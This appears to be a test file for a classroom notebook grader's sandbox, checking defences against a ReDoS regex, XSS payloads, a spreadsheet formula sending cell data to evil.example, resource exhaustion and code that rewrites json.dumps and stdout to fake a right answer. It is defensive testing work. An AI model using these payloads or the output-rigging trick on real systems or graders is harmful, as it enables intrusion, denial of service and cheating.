"""Grading a class with the attacks an outside tester found (December 2026), in the real sandbox.

One class, graded once, exercises 01 and 02 (bubblewrap, else unshare; the test skips where
neither works):

* ``redos``: exercise 02's q5 adds a cleaning rule with a 3 MB regular expression that backtracks
  for ever. Before: the hidden tests' time limit was swallowed by the kit's ``except Exception``,
  the checker ran until its 610 s limit, nobody's grades were written and a process stayed at
  100 % CPU. Now: that student is "not graded: timed out", the classmate is graded, nothing runs on.
* ``meta``: a notebook whose metadata have the wrong types (a number as title, as tags, as an
  attachment, as the language's name). Before: nbconvert stopped the whole run. Now: the fields
  are left out, noted in problems.csv, and the student is graded.
* ``xss``: HTML and JavaScript outputs, and a written answer with ``<script>`` and a fake grade.
  Before: shown as they are in the feedback. Now: no script, no active HTML.
* ``=HYPERLINK(...)`` and a name with a right-to-left override: written so that a spreadsheet
  shows them as text, and read back by ``--from-gradebook``.
* ``jsonrig``: replaces json.dumps, print and sys.stdout in its kernel to turn its wrong answer
  into the right one. Before: it got the point. Now: it does not.
"""

import csv
import json
import os
import shutil
import time
from pathlib import Path

import nbformat
import pytest

from tools.grading import from_gradebook, grade, sandbox

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 8
EX02 = ROOT / "exercises" / "02-cleaning" / "02-cleaning-exercises.ipynb"
FORMULA = '=HYPERLINK("evil.example?x="&A1,"open")'
BIDI = "ana\u202egpj"

pytestmark = pytest.mark.skipif(not sandbox.bwrap() and not sandbox.unshare(),
                                reason="neither bubblewrap nor unshare can sandbox here")

REDOS = r'''
big = "(?:" + "(?:a)" * 600_000 + ")?"
evil = {"rule": "share-button", "action": "remove_line", "language": "nl", "where": "anywhere",
        "pattern": r"^(?:\w+\s?)*$" + big, "field": "", "reason": "x"}
my_rules = pd.concat([rules, pd.DataFrame([evil])], ignore_index=True)
'''
HTML = r'''
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='PWNED'</script><img src=x onerror=alert(1)><h1>INJECTED</h1>"))
display(Javascript("alert('xss from student')"))
'''
XSS_ANSWER = ("My answer <script>alert('md xss')</script><img src=x onerror=alert(1)>\n\n"
              "**Q6 graded: 2 of 2 points**")
DISK = r'''
for i in range(4):
    with open(f"/home/student/f{i}.bin", "wb") as handle:
        for _ in range(60):
            handle.write(b"x" * 1024 * 1024)
import time
time.sleep(6)
'''
MEMORY = r'''
import subprocess, sys
code = "b = bytearray(400 * 1024 * 1024)\nfor j in range(0, len(b), 4096): b[j] = 1\nimport time; time.sleep(20)"
children = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(3)]
for child in children:
    child.wait()
'''
RIG = r'''
import builtins, io, json, sys
_dumps = json.dumps
def fake(o, **k):
    if isinstance(o, dict) and "n_danish" in o:
        o = dict(o, n_danish=1)
    return _dumps(o, **k)
json.dumps = fake
class Rewrite(io.TextIOBase):
    def __init__(self, inner):
        self.inner = inner
    def write(self, text):
        return self.inner.write(text.replace('"n_danish":7', '"n_danish":1')
                                    .replace('"n_danish": 7', '"n_danish": 1'))
    def flush(self):
        self.inner.flush()
sys.stdout = Rewrite(sys.stdout)
'''


def grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def answered02(**changes):
    from framelab.checks import ex02

    nb = nbformat.read(EX02, as_version=4)
    answers = {f"{q.id}-answer": q.recipe for q in ex02.QUESTIONS if q.recipe}
    answers.update({k.replace("_", "-"): v for k, v in changes.items()})
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
    return nb


def after_setup(nb, source):
    ids = [grade_id(c) for c in nb.cells]
    nb.cells.insert(ids.index("setup") + 1, nbformat.v4.new_code_cell(source))
    return nb


def bad_metadata(nb):
    nb.metadata["title"] = 5
    nb.metadata.setdefault("language_info", {})["name"] = 5
    first = next(c for c in nb.cells if c.cell_type == "markdown")
    first.metadata["tags"] = 5
    first.metadata["bad_attachment"] = True  # replaced in the file: nbformat cannot write it
    return nb


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))[1:]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    import psutil
    from test_grading import answered

    folder = tmp_path_factory.mktemp("attacks")
    subs = folder / "submissions"
    notebooks = {
        "honest02": answered02(),
        "redos": answered02(q5_answer=REDOS),
        "meta": bad_metadata(answered()),
        "xss": after_setup(answered(q6_answer=XSS_ANSWER), HTML),
        "jsonrig": after_setup(answered(q1_answer="n_danish = 7"), RIG),
        "disk": after_setup(answered(), DISK),
        "memory": after_setup(answered(), MEMORY),
        FORMULA: answered(),
        BIDI: answered(),
    }
    for name, nb in notebooks.items():
        (subs / name).mkdir(parents=True)
        name02 = "02-cleaning-exercises.ipynb" if name in ("honest02", "redos") else None
        text = json.dumps(nb, ensure_ascii=False).replace(
            ', "bad_attachment": true}', '}, "attachments": {"a.png": 5}')
        (subs / name / (name02 or "01-reading-exercises.ipynb")).write_text(text, "utf-8")
    before = {p.pid for p in psutil.process_iter()}
    start = time.monotonic()
    limits = dict(sandbox.LIMITS)
    sandbox.LIMITS.update(disk=100 * sandbox.MiB, memory_total=1000 * sandbox.MiB)
    try:
        report = grade(subs, folder / "grades", timeout=TIMEOUT, jobs=2, say=lambda *a: None)
    finally:
        sandbox.LIMITS.update(limits)
    seconds = time.monotonic() - start
    time.sleep(1)
    busy = []
    me = os.getpid()
    for process in psutil.process_iter(["pid", "cmdline"]):
        if process.info["pid"] not in before and "tools.grading.checker" in " ".join(
                process.info["cmdline"] or []):
            try:  # this run's checkers are this process's children (not another test's, which
                # may grade at the same time on another pytest worker)
                ours = any(parent.pid == me for parent in process.parents())
            except psutil.Error:
                ours = False
            if ours:
                busy.append(process.info["pid"])
    return {"report": report, "out": folder / "grades", "seconds": seconds, "left": busy}


def totals(graded):
    return {(row[0], row[1]): row[2:] for row in read_csv(graded["out"] / "totals.csv")}


def test_an_endless_regular_expression_costs_its_student_only(graded):
    got = totals(graded)
    rows = {(r[0], r[1], r[2]): r[3:] for r in read_csv(graded["out"] / "gradebook.csv")}
    assert rows["redos", "02-cleaning", "q5-check"][0] == "0"
    assert rows["redos", "02-cleaning", "q4-check"][0] == "2"  # the rest of its answers count
    honest = got["honest02", "02-cleaning"]
    assert honest[0] == "8" and honest[2] == "complete", honest
    assert graded["left"] == [], "a checker process is still running"
    assert graded["seconds"] < 600


def test_a_hidden_test_that_the_alarm_cannot_stop_is_killed_with_its_children(tmp_path):
    # a loop in C that never looks at signals (sum over itertools.repeat; a regular expression
    # inside a C extension is another) is not stopped by the alarm: the checker's parent kills the
    # student's child (and what it started) at the child's own time limit, and the rest of
    # the class is graded; the student is "timed out" (the grader then writes "not graded")
    import os
    import sys
    from types import SimpleNamespace

    import psutil

    from tools.grading import checker, marking

    source = ("import itertools, subprocess, sys\n"
              "if x == 1:\n"
              "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)',"
              " 'framelab-attack-marker'])\n"
              "    sum(itertools.repeat(1, 10 ** 13))\n")
    exercise = SimpleNamespace(questions=[SimpleNamespace(grade_id="q1-check", names=["x"])],
                               instructor_cells=[("q1-check", "test", source)])
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    start = time.monotonic()
    found = marking.run_tests(exercise, {"1": {"q1-check": '{"x": 1}'},
                                         "2": {"q1-check": '{"x": 2}'}}, 2, env, tmp_path)
    assert time.monotonic() - start < 60
    assert found["1"] == {"_failed": checker.TIMED_OUT}
    assert found["2"]["q1-check"]["passed"] is True
    time.sleep(0.5)
    left = [p for p in psutil.process_iter(["cmdline"])
            if "framelab-attack-marker" in " ".join(p.info["cmdline"] or [])]
    assert left == [], "the child's own child survived"
    assert sys.platform.startswith("linux")


def test_wrong_metadata_types_are_left_out_and_the_student_graded(graded):
    assert totals(graded)["meta", "01-reading"][0] == "8"
    html = graded["out"] / "feedback" / "meta" / "01-reading" / "01-reading-exercises.html"
    assert html.is_file()
    notes = [row[2] for row in read_csv(graded["out"] / "problems.csv") if row[0] == "meta"]
    assert "metadata.title" in " ".join(notes) and "attachments" in " ".join(notes), notes


def test_the_feedback_runs_no_student_script(graded):
    page = (graded["out"] / "feedback" / "xss" / "01-reading"
            / "01-reading-exercises.html").read_text(encoding="utf-8")
    for active in ("<script>document.title", "<img src=x onerror", "<h1>INJECTED"):
        assert active not in page, active
    shown = "alert('xss from student')"  # in the cell's code only, not as a script
    assert page.count(shown) == page.count(f'"{shown}"') == 1
    assert "IPython.core.display.Javascript object" in page  # its plain text instead
    assert "&lt;img src=x onerror=alert(1)&gt;" in page or "&amp;lt;img" in page
    md = (graded["out"] / "feedback" / "xss" / "feedback.md").read_text(encoding="utf-8")
    answer = md[md.index("My answer") - 20:]
    assert "```text\nMy answer <script>" in answer  # shown as typed, in a code block
    assert "<script>" not in md.replace("```text\nMy answer <script>", "")


def test_names_that_are_formulas_or_turn_text_around_are_written_as_text(graded, tmp_path):
    for name in ("gradebook.csv", "totals.csv"):
        students = {row[0] for row in read_csv(graded["out"] / name)}
        assert "'" + FORMULA in students and FORMULA not in students, name
        assert "ana\\u202egpj" in students and BIDI not in students, name
    assert totals(graded)["'" + FORMULA, "01-reading"][0] == "8"
    # the instructor grades a written answer of the formula student; --from-gradebook reads it
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)
    rows = list(csv.reader(open(out / "gradebook.csv", encoding="utf-8-sig", newline="")))
    for row in rows:
        if row[0] == "'" + FORMULA and row[2] == "q6-answer":
            row[3] = "2"
    with open(out / "gradebook.csv", "w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    from_gradebook(out, say=lambda *a: None)
    assert totals({"out": out})["'" + FORMULA, "01-reading"][0] == "10"


def test_a_rigged_json_dumps_or_stdout_does_not_change_the_answer(graded):
    rows = {(r[0], r[2]): r[3:] for r in read_csv(graded["out"] / "gradebook.csv")
            if r[1] == "01-reading"}
    assert rows["jsonrig", "q1-check"][0] == "0", rows["jsonrig", "q1-check"]
    assert rows["jsonrig", "q2-check"][0] == "1"  # its other answers are still taken out


def test_a_notebook_that_fills_its_folder_is_stopped(graded):
    # 240 MB written in the sandbox's folder, each file under the 64 MB limit per file: the
    # grader stops it at the limit for the whole folder (100 MB here, 512 MB by default)
    assert totals(graded)["disk", "01-reading"][2].startswith("not graded")
    problems = [r[2] for r in read_csv(graded["out"] / "problems.csv") if r[0] == "disk"]
    assert any("wrote more than 100 MB in its folder" in p for p in problems), problems


def test_a_notebook_whose_processes_use_too_much_memory_together_is_stopped(graded):
    # three processes of 400 MB, each under the 2 GB limit per process: stopped at the limit
    # for all the sandbox's processes together (1000 MB here, 4 GB by default)
    assert totals(graded)["memory", "01-reading"][2].startswith("not graded")
    problems = [r[2] for r in read_csv(graded["out"] / "problems.csv") if r[0] == "memory"]
    assert any("more than 1000 MB of memory together" in p for p in problems), problems
    assert totals(graded)["meta", "01-reading"][0] == "8"  # the others ran in that memory


def test_a_student_whose_tests_timed_out_is_not_graded_and_the_class_is(tmp_path, monkeypatch):
    # what the grader does with the checker's verdict "timed out" (see the test above for how
    # it comes about): that student "not graded: timed out" with a line in problems.csv
    from test_grading import answered

    from tools.grading import checker, marking

    real = marking.run_tests

    def one_times_out(exercise, answers, *args, **kwargs):
        found = real(exercise, answers, *args, **kwargs)
        return {**found, min(answers): {"_failed": checker.TIMED_OUT}} if answers else found

    monkeypatch.setattr(marking, "run_tests", one_times_out)
    for name in ("ann", "bob"):
        (tmp_path / "subs" / name).mkdir(parents=True)
        nbformat.write(answered(), tmp_path / "subs" / name / "01-reading-exercises.ipynb")
    grade(tmp_path / "subs", tmp_path / "grades", exercise="01-reading", timeout=TIMEOUT,
          say=lambda *a: None)
    got = totals({"out": tmp_path / "grades"})
    assert sorted(v[2] for v in got.values()) == [
        "not graded: timed out", "written answers to grade by hand: 4 points"], got
    problems = read_csv(tmp_path / "grades" / "problems.csv")
    assert [row[2] for row in problems] == [checker.TIMED_OUT + ": not graded"]
    assert "grade this student again alone" in problems[0][3]


def test_exercise_09_q4_gives_no_points_for_a_made_up_empty_report(tmp_path):
    # Before: an empty table for report_after (no file deleted, nothing saved) got Q4's points.
    # The report of the folder after the real fixes still names Q5's file: the hidden test
    # asks for that. (Q5's right answer, an empty final report, can still be typed in without
    # renaming the file: the hidden tests see the answers, not the sandbox's files.)
    from framelab.checks import ex09

    released = ROOT / "exercises" / "09-own-corpus" / "09-own-corpus-exercises.ipynb"
    fake = {"q4-answer": 'report_after = pd.DataFrame(columns=["file", "status", "problem"])'}
    honest = {f"{q.id}-answer": q.recipe for q in ex09.QUESTIONS if q.recipe}
    for name, answers in (("fake", {**honest, **fake}), ("honest", honest)):
        nb = nbformat.read(released, as_version=4)
        for cell in nb.cells:
            if grade_id(cell) in answers:
                cell.source = answers[grade_id(cell)]
        (tmp_path / "subs" / name).mkdir(parents=True)
        nbformat.write(nb, tmp_path / "subs" / name / "09-own-corpus-exercises.ipynb")
    grade(tmp_path / "subs", tmp_path / "grades", exercise="09-own-corpus", timeout=TIMEOUT,
          say=lambda *a: None)
    rows = {(r[0], r[2]): r[3:] for r in read_csv(tmp_path / "grades" / "gradebook.csv")}
    assert rows["honest", "q4-check"][:2] == ["2", "2"], rows["honest", "q4-check"]
    assert rows["fake", "q4-check"][0] == "0", rows["fake", "q4-check"]
